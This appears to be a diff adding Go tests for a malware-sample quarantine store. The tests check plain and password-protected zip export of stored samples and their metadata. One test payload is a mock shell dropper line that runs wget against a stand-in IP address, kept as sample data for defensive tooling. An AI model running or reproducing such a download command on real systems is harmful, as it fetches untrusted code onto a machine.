@@ -0,0 +1,105 @@
+package quarantine
+
+import (
+	"archive/zip"
+	"bytes"
+	"io/ioutil"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"testing"
+	"time"
+)
+
+var zipTestPayloads = []string{"#!/bin/sh\nwget http://198.51.100.1/x\n", "\x7fELF\x00\x01binary", ""}
+
+func fillTestStore(t *testing.T) *Store {
+	t.Helper()
+	s := openTestStore(t)
+	for _, payload := range zipTestPayloads {
+		if _, err := s.Add([]byte(payload), Sighting{Time: time.Date(2021, 6, 1, 12, 30, 0, 0, time.UTC)}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return s
+}
+
+func TestExportZip(t *testing.T) {
+	s := fillTestStore(t)
+	var buf bytes.Buffer
+	if err := s.ExportZip(&buf, ""); err != nil {
+		t.Fatal(err)
+	}
+	zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(zr.File) != 2*len(zipTestPayloads) {
+		t.Errorf("%d entries, want a payload and its metadata for each of %d", len(zr.File), len(zipTestPayloads))
+	}
+	for _, payload := range zipTestPayloads {
+		hash := Hash([]byte(payload))
+		f, err := zr.Open(hash)
+		if err != nil {
+			t.Errorf("no entry for %s: %v", hash, err)
+			continue
+		}
+		data, _ := ioutil.ReadAll(f)
+		f.Close()
+		if string(data) != payload {
+			t.Errorf("%s holds %q, want %q", hash, data, payload)
+		}
+	}
+}
+
+// The encrypted export must open in a standard unzip, which checks both the
+// password and the CRC of every entry.
+func TestExportZipEncryptedUnzips(t *testing.T) {
+	unzip, err := exec.LookPath("unzip")
+	if err != nil {
+		t.Skip("unzip not installed")
+	}
+	s := fillTestStore(t)
+	dir, err := ioutil.TempDir("", "export")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+	archive := filepath.Join(dir, "samples.zip")
+	f, err := os.Create(archive)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := s.ExportZip(f, "infected"); err != nil {
+		t.Fatal(err)
+	}
+	f.Close()
+	tests := []struct {
+		password string
+		wantOk   bool
+	}{
+		{"infected", true},
+		{"wrong", false},
+	}
+	for _, test := range tests {
+		out := filepath.Join(dir, test.password)
+		output, err := exec.Command(unzip, "-P", test.password, "-d", out, archive).CombinedOutput()
+		if (err == nil) != test.wantOk {
+			t.Errorf("unzip -P %s: %v, want success %v\n%s", test.password, err, test.wantOk, output)
+			continue
+		}
+		if !test.wantOk {
+			continue
+		}
+		for _, payload := range zipTestPayloads {
+			hash := Hash([]byte(payload))
+			data, err := ioutil.ReadFile(filepath.Join(out, hash))
+			if err != nil || string(data) != payload {
+				t.Errorf("unzipped %s holds %q, %v, want %q", hash, data, err, payload)
+			}
+			if _, err := os.Stat(filepath.Join(out, hash+metadataSuffix)); err != nil {
+				t.Errorf("no metadata for %s: %v", hash, err)
+			}
+		}
+	}
+}